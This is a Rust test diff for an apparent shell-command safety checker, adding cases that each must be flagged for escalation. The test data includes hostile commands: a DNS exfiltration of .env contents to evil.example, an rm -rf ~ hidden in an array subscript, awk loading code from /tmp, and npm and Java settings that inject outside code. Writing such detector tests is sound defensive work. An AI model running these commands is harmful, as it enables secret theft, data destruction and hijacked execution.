@@ -300,6 +300,30 @@ fn each_mutant_reproduces_its_miss() {
             Mutant::ProbeDataBlind,
             "dig $(cat .env | base64 -w0).evil.example",
         ),
+        (
+            Mutant::ReplacementAsData,
+            "find . -name '*.txt' -exec sh -c 'cat {}' \\;",
+        ),
+        (Mutant::ReplacementAsData, "ls | xargs -I{} sh -c 'echo {}'"),
+        (Mutant::AwkSourcesBlind, "awk -i /tmp/evil.awk '{print}' f"),
+        (Mutant::AwkSourcesBlind, "gawk -e '@load \"evil\"' f"),
+        (
+            Mutant::ExpansionCodeBlind,
+            "x='a[$(rm -rf ~)]'; read \"$x\" <<< 1",
+        ),
+        (
+            Mutant::PersistenceBlind,
+            "npm config set script-shell /tmp/x",
+        ),
+        (Mutant::OutsideCodeBlind, "go test /tmp/evil/..."),
+        (
+            Mutant::OutsideCodeBlind,
+            "GIT_DIR=/tmp/evil/.git git status",
+        ),
+        (
+            Mutant::ProgramOptionsAsData,
+            "export JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar",
+        ),
     ];
     for (m, c) in misses {
         assert_eq!(band_of(&inspect(c, None)), Band::Escalate, "{c:?}");
